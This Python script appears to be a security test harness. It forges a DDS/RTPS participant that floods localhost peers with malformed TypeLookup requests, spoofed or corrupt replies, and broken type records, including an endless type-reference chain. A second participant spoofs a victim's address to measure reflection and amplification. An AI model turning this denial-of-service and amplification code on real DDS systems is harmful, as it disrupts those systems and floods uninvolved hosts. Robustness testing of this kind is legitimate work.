# SPDX-License-Identifier: Apache-2.0
"""A participant that lies about types, made by hand: what it says is well-formed as far as it must be to be heard.

It announces itself at a socket of its own, answers HEARTBEATs and so proves that address; then it floods every
participant of the domain with
  - TypeLookup requests for unknown types, with huge counts, cut short, for the dependencies of everything;
  - replies nobody asked for, and replies under the hash of something else;
  - records of writers and readers whose TypeInformation is cut short, over-long, noise, or names a type it will be asked for,
    and whose type refers to another, and that to another, without end.
What it is asked for it answers, with the object asked for, another one, or noise.

A second one names a silent third socket as its address and requests in its name. Prints, in bytes of UDP payload
plus headers, {"sent", "victim_got", "victim_paid", "got", "asked", "answers"} at the end. The seed is fixed.
"""

import argparse
import hashlib
import json
import random
import select
import socket
import struct
import time

from forged_announcement import IP_UDP_HEADERS, locator, parameter, submessage, text

SPDP = (0x000100c2, 0x000100c7)
PUBLICATIONS = (0x000003c2, 0x000003c7)
SUBSCRIPTIONS = (0x000004c2, 0x000004c7)
REQUESTS = (0x000300c3, 0x000300c4)
REPLIES = (0x000301c3, 0x000301c4)
GET_TYPES, GET_DEPENDENCIES = 0x018252d3, 0x05aafb31
TYPE_IDS, TYPES = 0x0c536065, 0x02804ad1
MINIMAL = 0xf1
CHAIN = 3000  # types that refer to the next one: more than anybody is to keep


def sized(body):
    """A DHEADER, or the length of a member, and its contents up to a multiple of four."""
    return struct.pack("<I", len(body)) + body + bytes(-len(body) % 4)


def member(member_id, body):
    return struct.pack("<I", 5 << 28 | member_id) + sized(body)


def type_object(references):
    """An appendable struct with one member of each of the types with these hashes."""
    members = struct.pack("<I", len(references))
    for number, reference in enumerate(references):
        members += sized(struct.pack("<IH", number, 1) + bytes([MINIMAL]) + reference +
                         struct.pack("<I", number))
    body = bytes([MINIMAL, 0x51, 2, 0]) + struct.pack("<IB3x", 1, 0)
    return sized(body + sized(members))


def hash_of(type_object_bytes):
    return hashlib.md5(type_object_bytes).digest()[:14]


def information(minimal, complete=bytes(14)):
    """TypeInformation with the two hashes; the form is Cyclone DDS' (capture 07c)."""
    def part(member_id, kind, value):
        return (struct.pack("<III", 4 << 28 | member_id, 40, 36) + struct.pack("<I", 20) +
                bytes([kind]) + value + b"\0" + struct.pack("<III", 183, 0, 4) + bytes(4))
    return sized(part(0x1001, MINIMAL, minimal) + part(0x1002, 0xf2, complete))


class Types:
    """The chain, made from its end, and objects that refer to many unknown ones."""

    def __init__(self, rng):
        self.objects = {}
        reference = rng.randbytes(14)
        self.heads = []
        for number in range(CHAIN):
            made = type_object([reference, rng.randbytes(14)] if number % 7 == 0 else [reference])
            reference = hash_of(made)
            self.objects[reference] = made
            if number % 100 == 99:
                self.heads.append(reference)
        wide = type_object([rng.randbytes(14) for _ in range(250)])
        self.objects[hash_of(wide)] = wide
        self.heads.append(hash_of(wide))


class Liar:
    """One participant: its prefix, socket, and the numbers of its writers."""

    def __init__(self, name, rng, targets, address=None):
        self.rng, self.targets = rng, targets
        self.prefix = b"\x01\x01" + name
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.socket.bind(("127.0.0.1", 0))
        self.address = address or self.socket.getsockname()
        self.last = {}
        self.count = self.sent = self.got = self.asked = self.answers = 0

    def send(self, body, to=None):
        message = b"RTPS\x02\x03\x01\x01" + self.prefix + body
        for target in [to] if to else self.targets:
            try:
                self.socket.sendto(message, target)
                self.sent += len(message) + IP_UDP_HEADERS
            except OSError:
                pass  # nobody there

    def data(self, pair, payload):
        """The next sample of a writer, with a HEARTBEAT: what came before is gone."""
        writer, reader = pair
        seq = self.last[writer] = self.last.get(writer, 0) + 1
        self.count += 1
        payload += bytes(-len(payload) % 4)
        ids = struct.pack(">II", reader, writer)
        return (submessage(0x15, 4, struct.pack("<HH", 0, 16) + ids + struct.pack("<iI", 0, seq) + payload) +
                submessage(0x07, 2, ids + struct.pack("<iIiII", 0, seq, 0, seq, self.count)))

    def announcement(self):
        payload = b"\x00\x03\x00\x00"
        payload += parameter(0x0015, b"\x02\x03\x00\x00") + parameter(0x0016, b"\x01\x01\x00\x00")
        payload += parameter(0x0050, self.prefix + b"\x00\x00\x01\xc1")
        payload += locator(0x0032, *self.address) + locator(0x0031, *self.address)
        payload += parameter(0x0002, struct.pack("<iI", 100, 0)) + parameter(0x0058, struct.pack("<I", 0xfc3f))
        self.last[SPDP[0]] = 0
        return self.data(SPDP, payload + parameter(1, b""))

    def endpoint_record(self, number, info):
        """Of a reliable writer or a best-effort reader, in turns."""
        pair, kind = ((PUBLICATIONS, 2), (SUBSCRIPTIONS, 7))[number % 2]
        payload = b"\x00\x03\x00\x00"
        payload += parameter(0x005a, self.prefix + struct.pack(">I", number << 8 | kind))
        payload += parameter(0x0005, text("Square")) + parameter(0x0007, text("ShapeType"))
        payload += parameter(0x001a, struct.pack("<III", 2 - number % 2, 0, 0)) + locator(0x002f, *self.address)
        return self.data(pair, payload + parameter(0x0075, info) + parameter(1, b""))

    def request(self, server, hashes, operation=GET_TYPES, count=None, cut=None):
        instance = "dds.builtin.TOS." + server.hex() + "000001c1"
        ids = struct.pack("<I", len(hashes) if count is None else count)
        ids += b"".join(bytes([MINIMAL]) + value for value in hashes)
        call = struct.pack("<I", operation) + sized(member(TYPE_IDS, ids))
        body = self.prefix + struct.pack(">I", REQUESTS[0]) + struct.pack("<iI", 0, self.count)
        body += text(instance) + sized(call)
        return self.data(REQUESTS, (b"\0\7\0\0" + body)[:cut])

    def reply(self, pairs, count=None, cut=None):
        types = struct.pack("<I", len(pairs) if count is None else count)
        for value, made in pairs:
            types += bytes([MINIMAL]) + value + b"\0" + made
        inner = struct.pack("<I", 0) + sized(member(TYPES, types))
        body = self.prefix + struct.pack(">I", REQUESTS[0]) + struct.pack("<iII", 0, 1, 0)
        body += sized(struct.pack("<I", GET_TYPES) + sized(inner))
        return self.data(REPLIES, (b"\0\7\0\0" + body)[:cut])

    # ---- hearing ---------------------------------------------------------------------------------

    def listen(self, types, seconds=0.0):
        """Acknowledges whatever is announced, and answers what is asked."""
        while select.select([self.socket], [], [], seconds)[0]:
            message, source = self.socket.recvfrom(65536)
            self.got += len(message) + IP_UDP_HEADERS
            at = 20
            while at + 4 <= len(message):
                kind, flags, length = struct.unpack_from("<BBH", message, at)
                length = length or len(message) - at - 4
                self.hear(kind, flags, message[at + 4:at + 4 + length], source, types)
                at += 4 + length

    def hear(self, kind, flags, body, source, types):
        if kind == 0x07 and len(body) >= 28:
            writer = struct.unpack_from(">I", body, 4)[0]
            high, low = struct.unpack_from("<iI", body, 16)
            self.count += 1
            reader = writer & 0xffffff00 | {0xc2: 0xc7, 0xc3: 0xc4}.get(writer & 0xff, 4)
            self.send(submessage(0x06, 2, struct.pack(">II", reader, writer) +
                                 struct.pack("<iIII", high, low + 1, 0, self.count)), source)
        if kind == 0x15 and flags & 4 and struct.unpack_from(">I", body, 8)[0] == REQUESTS[0]:
            self.asked += 1
            self.answer(body, types)

    def answer(self, body, types):
        wanted, at = [], body.find(bytes([MINIMAL]), body.find(b"000001c1"))
        while 0 <= at and at + 15 <= len(body):
            wanted.append(body[at + 1:at + 15])
            at = at + 15 if body[at + 15:at + 16] == bytes([MINIMAL]) else -1
        known = [(value, types.objects[value]) for value in wanted if value in types.objects]
        if known:
            self.answers += 1
            self.send(self.reply(known))
        elif wanted:
            noise = self.rng.randbytes(40)
            self.send(self.reply([(wanted[0], sized(noise))]))


def hostile_record(liar, types, number):
    rng = liar.rng
    good = information(rng.choice(types.heads), rng.randbytes(14))
    info = rng.choice((good, good, good[:4 * rng.randrange(1, 25)], rng.randbytes(4 * rng.randrange(1, 60)),
                       good[:8] + struct.pack("<I", 0xffffffff) + good[12:],
                       bytes(b ^ rng.choice((0, 0, 0, 255)) for b in good)))
    return liar.endpoint_record(1 + number % 64, info)


def hostile_question(liar, server):
    rng = liar.rng
    hashes = [rng.randbytes(14) for _ in range(rng.choice((0, 1, 16, 64, 300)))]
    return rng.choice((
        lambda: liar.request(server, hashes),
        lambda: liar.request(bytes(12), hashes),
        lambda: liar.request(server, hashes[:4], count=0xffffffff),
        lambda: liar.request(server, hashes, cut=rng.randrange(4, 120)),
        lambda: liar.request(server, hashes, operation=GET_DEPENDENCIES),
        lambda: liar.request(server, hashes, operation=rng.randrange(1 << 32)),
        lambda: liar.data(REQUESTS, b"\0\7\0\0" + rng.randbytes(rng.randrange(200)))))()


def hostile_reply(liar, types):
    rng = liar.rng
    made = type_object([rng.randbytes(14)])
    return rng.choice((
        lambda: liar.reply([(hash_of(made), made)]),
        lambda: liar.reply([(rng.choice(types.heads), made)]),
        lambda: liar.reply([(rng.randbytes(14), sized(rng.randbytes(60)))], count=0xffffffff),
        lambda: liar.reply([(hash_of(made), made)] * 20, cut=rng.randrange(4, 400)),
        lambda: liar.data(REPLIES, b"\0\7\0\0" + rng.randbytes(rng.randrange(200)))))()


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--domain", type=int, default=0)
    parser.add_argument("--seconds", type=float, default=5)
    parser.add_argument("servers", nargs="+", help="GUID prefixes of those to ask, in hex")
    options = parser.parse_args()
    rng = random.Random(6)
    base = 7410 + 250 * options.domain
    targets = [("127.0.0.1", base + 2 * n) for n in range(3)]
    servers = [bytes.fromhex(word.replace(".", ""))[:12] for word in options.servers]
    types = Types(rng)
    victim = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    victim.bind(("127.0.0.1", 0))
    liar = Liar(b"liar here.", rng, targets)
    mute = Liar(b"somewhere.", rng, targets, victim.getsockname())
    begun, turn = time.monotonic(), 0
    victim_got = 0
    while time.monotonic() < begun + options.seconds:
        if turn % 50 == 0:
            liar.send(liar.announcement())
            mute.send(mute.announcement())
        if turn > 100:
            liar.send(hostile_record(liar, types, turn))
            liar.send(hostile_question(liar, rng.choice(servers)) + hostile_reply(liar, types))
            # All of 64 well-known questions: the largest answers there are.
            mute.send(hostile_question(mute, rng.choice(servers)))
        liar.listen(types, 0.002)
        mute.listen(types)
        while select.select([victim], [], [], 0)[0]:
            victim_got += len(victim.recv(65536)) + IP_UDP_HEADERS
        turn += 1
    print(json.dumps({"sent": liar.sent, "got": liar.got, "asked": liar.asked, "answers": liar.answers,
                      "victim_paid": mute.sent, "victim_got": victim_got, "turns": turn}))


if __name__ == "__main__":
    main()
